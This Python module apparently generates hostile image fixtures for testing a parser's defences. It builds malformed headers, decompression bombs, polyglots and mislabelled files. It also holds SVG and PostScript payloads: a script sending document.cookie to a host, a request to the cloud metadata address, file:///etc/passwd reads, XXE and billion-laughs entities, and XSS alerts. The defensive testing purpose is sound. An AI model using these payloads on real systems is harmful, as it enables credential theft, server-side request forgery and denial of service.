"""Images with absurd headers, bombs inside, and drawings that want to run something."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable, Iterator

from PIL import Image as Pillow

from hostile.kinds import Hostile, cuts, damaged, hostile
from hostile.zeros import zlibbed

BAD = "image-damaged image-format image-too-large image-empty image-svg image-decompression-bomb empty"
FORMATS = {"png": "PNG", "jpg": "JPEG", "gif": "GIF", "bmp": "BMP", "tif": "TIFF", "webp": "WEBP"}
SIZES = {
    "2147483647x2147483647": (0x7FFFFFFF, 0x7FFFFFFF),
    "4294967295x4294967295": (0xFFFFFFFF, 0xFFFFFFFF),
    "0x0": (0, 0),
    "1x1000000000": (1, 1_000_000_000),
    "60000x60000": (60_000, 60_000),
}


def plain(format: str) -> bytes:
    stream = io.BytesIO()
    picture = Pillow.new("RGB", (40, 30), "green")
    picture.putpixel((3, 3), (200, 10, 10))
    picture.save(stream, format)
    return stream.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *inside: bytes, depth: int = 8, colour: int = 2) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + b"".join(inside) + chunk(b"IEND", b"")


def _sized(format: str, width: int, height: int) -> bytes:
    """A plain image whose header claims another size, as far as its fields can hold it."""
    data = bytearray(plain(format))
    if format == "PNG":
        return png(width, height, chunk(b"IDAT", zlib.compress(b"\0" * 1000)))
    if format == "JPEG":
        at = data.index(b"\xff\xc0") + 5
        data[at : at + 4] = struct.pack(">HH", min(height, 0xFFFF), min(width, 0xFFFF))
    elif format == "GIF":
        data[6:10] = struct.pack("<HH", min(width, 0xFFFF), min(height, 0xFFFF))
    elif format == "BMP":
        data[18:26] = struct.pack("<II", width, height)
    elif format == "TIFF":
        for tag, value in ((256, width), (257, height)):
            at = (
                data.index(struct.pack("<HH", tag, 4))
                if struct.pack("<HH", tag, 4) in data
                else data.index(struct.pack("<HH", tag, 3))
            )
            data[at : at + 12] = struct.pack("<HHII", tag, 4, 1, value)
    else:
        lossy = data.index(b"VP8 ") + 8
        data[lossy + 6 : lossy + 10] = struct.pack("<HH", min(width, 0x3FFF), min(height, 0x3FFF))
    return bytes(data)


def _gif(frames: int) -> bytes:
    data = plain("GIF")
    at = data.index(b",")
    return data[:at] + data[at:-1] * frames + b";"


def _tiff_circle() -> bytes:
    data = bytearray(plain("TIFF"))
    first = struct.unpack("<I", data[4:8])[0]
    count = struct.unpack("<H", data[first : first + 2])[0]
    data[first + 2 + 12 * count : first + 6 + 12 * count] = struct.pack("<I", first)
    return bytes(data)


def _tiff_entries() -> bytes:
    """A directory that claims 65,535 entries, each a billion values long."""
    entry = struct.pack("<HHII", 270, 2, 1_000_000_000, 8)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", 0xFFFF) + entry * 3000


def _bmp(height: int, bits: int = 24, compression: int = 0) -> bytes:
    data = bytearray(plain("BMP"))
    data[22:26] = struct.pack("<i", height)
    data[28:30] = struct.pack("<H", bits)
    data[30:34] = struct.pack("<I", compression)
    return bytes(data)


SVG_INSIDES = {
    "script": "<script>fetch('http://127.0.0.1/'+document.cookie)</script>",
    "onload": '<g onload="alert(1)"/>',
    "remote-image": '<image href="http://169.254.169.254/latest/meta-data/" width="9" height="9"/>',
    "local-file": '<image href="file:///etc/passwd" width="9" height="9"/>',
    "use-itself": '<g id="a"><use href="#a"/></g>',
    "foreign-object": '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="file:///etc/"/></foreignObject>',
    "deep": "<g>" * 50_000,
    "huge-path": f'<path d="M0 0{"L9 9" * 100_000}"/>',
}

ENTITIES = (
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + level)} "{f"&{chr(97 + level)};" * 10}">' for level in range(9))
    + "]>"
)


def files() -> Iterator[Hostile]:
    for suffix, format in FORMATS.items():
        for name, (width, height) in SIZES.items():
            yield hostile(
                "image header", f"{suffix}-claims-{name}.{suffix}", f"{BAD} read", _later(_sized, format, width, height)
            )
        data = plain(format)
        yield from cuts("image truncated", f"{suffix}", f".{suffix}", f"{BAD} read", data, 4)
        yield from damaged("image damaged", f"{suffix}", f".{suffix}", f"{BAD} read", data, 2)
        yield hostile("image wrong name", f"{suffix}-behind-letters.{suffix}", BAD, b"Hello, " + data)
    idat = chunk(b"IDAT", zlib.compress(b"\0" + b"\x10\x20\x30" * 40, 9))
    yield hostile(
        "image bomb", "png-idat-of-4-GB.png", f"{BAD} read", lambda: png(40, 1, chunk(b"IDAT", zlibbed(4096)))
    )
    yield hostile(
        "image bomb",
        "png-idat-of-99-megapixels.png",
        f"{BAD} read",
        lambda: png(33_000, 3_000, chunk(b"IDAT", zlibbed(283))),
    )
    for name, head in {"zTXt": b"Comment\0\0", "iTXt": b"Comment\0\1\0\0\0", "iCCP": b"profile\0\0"}.items():
        yield hostile(
            "image bomb",
            f"png-{name}-of-2-GB.png",
            f"{BAD} read",
            _later(lambda name, head: png(40, 1, chunk(name.encode(), head + zlibbed(2048)), idat), name, head),
        )
    yield hostile(
        "image bomb",
        "png-of-20000-texts.png",
        f"{BAD} read",
        lambda: png(40, 1, chunk(b"tEXt", b"a\0" + b"b" * 99) * 20_000, idat),
    )
    yield hostile("image header", "png-chunk-of-4-GB.png", BAD, png(40, 1, struct.pack(">I", 0xFFFFFFFF) + b"IDAT"))
    yield hostile("image header", "png-of-no-colour-type.png", BAD, png(40, 1, idat, depth=3, colour=5))
    yield hostile(
        "image header", "png-apng-of-4-billion-frames.png", f"{BAD} read", png(40, 1, chunk(b"acTL", b"\xff" * 8), idat)
    )
    yield hostile("image bomb", "gif-of-20000-frames.gif", f"{BAD} read image-frames", lambda: _gif(20_000))
    yield hostile("image bomb", "gif-lzw-without-end.gif", f"{BAD} read", lambda: plain("GIF")[:-1] + b"\xff" * 500_000)
    yield hostile("image header", "tif-directory-in-a-circle.tif", f"{BAD} read", _tiff_circle)
    yield hostile("image header", "tif-of-65535-entries.tif", BAD, _tiff_entries)
    yield hostile("image header", "tif-of-nothing.tif", BAD, b"II*\0\xff\xff\xff\xff")
    yield hostile("image header", "bmp-of-negative-height.bmp", f"{BAD} read", _bmp(-30))
    yield hostile("image header", "bmp-of-most-negative-height.bmp", BAD, _bmp(-0x80000000))
    yield hostile("image header", "bmp-of-run-lengths.bmp", f"{BAD} read", _bmp(30, 8, 1))
    yield hostile("image header", "bmp-of-99-bits.bmp", BAD, _bmp(30, 99))
    yield hostile(
        "image header", "jpg-of-comments-only.jpg", BAD, b"\xff\xd8" + (b"\xff\xfe\xff\xff" + b"x" * 65533) * 10
    )
    yield hostile(
        "image header", "webp-of-4-GB.webp", BAD, b"RIFF\xff\xff\xff\xffWEBPVP8X\x0a\0\0\0\0\0\0\0" + b"\xff" * 6
    )
    yield hostile(
        "image wrong name",
        "postscript.png",
        BAD,
        b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n",
    )
    yield hostile("image wrong name", "windows-icon.png", BAD, b"\0\0\1\0\1\0" + b"\0" * 99)
    yield hostile("image wrong name", "zip.jpg", BAD, b"PK\3\4" + b"\0" * 200)
    yield hostile("image wrong name", "page.gif", BAD, b"<html><script>alert(1)</script>")
    yield hostile("image wrong name", "empty.png", BAD, b"")
    yield hostile("polyglot", "gif-that-is-a-script.gif", f"{BAD} read", b"GIF89a/*\x2f\0\0\0" + b"*/=alert(1)//;")
    yield hostile("polyglot", "png-with-a-zip-behind.png", "read", png(40, 1, idat) + b"PK\3\4" + b"\0" * 10)
    for name, inside in SVG_INSIDES.items():
        yield hostile(
            "svg", f"svg-{name}.svg", "image-svg", f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'.encode()
        )
    yield hostile("svg", "svg-entities.svg", "image-svg", f'<?xml version="1.0"?>{ENTITIES}<svg>&j;&x;</svg>'.encode())
    yield hostile("svg", "svg-as.png", "image-svg", b'<svg xmlns="http://www.w3.org/2000/svg"/>')
    yield hostile("svg", "svg-behind-3000-spaces.svg", "image-svg image-format", b" " * 3000 + b"<svg/>")


def _later(make: Callable[..., bytes], *values: object) -> Callable[[], bytes]:
    return lambda: make(*values)
